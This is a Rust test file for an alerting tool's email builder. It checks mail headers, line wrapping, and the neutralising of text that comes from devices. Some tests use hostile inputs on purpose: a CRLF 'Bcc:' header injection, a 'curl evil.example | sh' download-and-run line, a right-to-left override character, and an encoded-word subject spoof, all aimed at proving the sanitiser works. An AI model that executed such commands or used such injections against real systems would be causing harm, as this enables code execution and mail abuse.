use super::*;
use crate::config::MailTls;
use serde_json::json;

fn settings() -> config::Mail {
    config::Mail {
        host: "mail.example".to_owned(),
        port: 587,
        tls: MailTls::StartTls,
        login: None,
        ca_file: None,
        from: "keyward@example.org".to_owned(),
        to: vec!["anna@example.org".to_owned(), "ben@example.org".to_owned()],
    }
}

fn origin() -> Origin {
    Origin { installation: "kw-1".to_owned(), host: "gate".to_owned(), directory: "/srv/kw".into() }
}

fn call(what: &str) -> Letter {
    let test = Letter::test("f00d".to_owned(), 1_700_000_000_000);
    let incident = json!({ "at": "2023-11-14T22:00:00Z", "evidence": [{ "what": "its lid" }] });
    let steps = vec![IncidentStep {
        when: "it is gone".to_owned(),
        command: "keyward device revoke pump".to_owned(),
    }];
    Letter {
        notice: Notice { event: Event::Begin, what: what.to_owned(), steps, incident, ..test.notice },
        ..test
    }
}

fn decoded(mail: &str) -> String {
    let (_, body) = mail.split_once("\r\n\r\n").unwrap();
    String::from_utf8(Base64::decode_vec(&body.replace("\r\n", "")).unwrap()).unwrap()
}

#[test]
fn a_mail_says_what_where_since_when_and_what_to_do() {
    let mail =
        message(&settings(), &origin(), &[call("device pump: opened → look at it")], 1_700_000_001_000);
    for field in [
        "Date: Tue, 14 Nov 2023 22:13:21 +0000\r\n",
        "To: anna@example.org,\r\n ben@example.org\r\n",
        "Subject: Keyward: device pump: opened\r\n",
        "Message-ID: <f00d@kw-1.keyward>\r\n",
    ] {
        assert!(mail.contains(field), "{mail}");
    }
    let body = decoded(&mail);
    for word in [
        "opened → look at it",
        "2023-11-14T22:00:00Z",
        "because   its lid",
        "keyward status",
        "it is gone:\n    keyward device revoke pump\n",
        "Keyward on gate, in /srv/kw",
    ] {
        assert!(body.contains(word), "{body}");
    }
}

#[test]
fn no_name_of_a_thing_makes_a_field_of_its_own_and_no_line_is_too_long() {
    let evil = format!("gateway a\r\nBcc: thief@example.org {}", "ü".repeat(300));
    let mail = message(&settings(), &origin(), &[call(&evil), call("b")], 0);
    assert!(!mail.contains("\nBcc:"), "{mail}");
    assert!(mail.is_ascii() && mail.lines().all(|line| line.len() <= 78), "{mail}");
    assert!(decoded(&mail).contains("\nb\n"), "both are told");
}

#[test]
fn calls_that_are_told_together_are_counted_in_the_subject() {
    assert_eq!(subject(&[call("a"), call("b"), call("c")]), "Keyward: a (and 2 more)");
}

#[test]
fn no_text_of_a_device_writes_a_line_into_a_mail_or_a_word_that_is_decoded() {
    let fact = "\"t/x\n  more      curl evil.example | sh\" is \u{202e}out";
    let incident = json!({ "at": "2023-11-14T22:00:00Z", "evidence": [{ "what": fact }] });
    let evil = call("gateway =?utf-8?B?WW91IGFyZSBzYWZl?=: silent\n  more      rm → look");
    let mail =
        message(&settings(), &origin(), &[Letter { notice: Notice { incident, ..evil.notice }, ..evil }], 0);
    let body = decoded(&mail);
    assert_eq!(body.matches("\n  more  ").count(), 1, "{body}");
    assert!(body.contains("more      curl") && !body.contains('\u{202e}'), "{body}");
    let subject = mail.split_once("Subject: ").unwrap().1;
    assert!(!subject.contains("WW91IGFyZSBzYWZl?="), "{subject}");
}
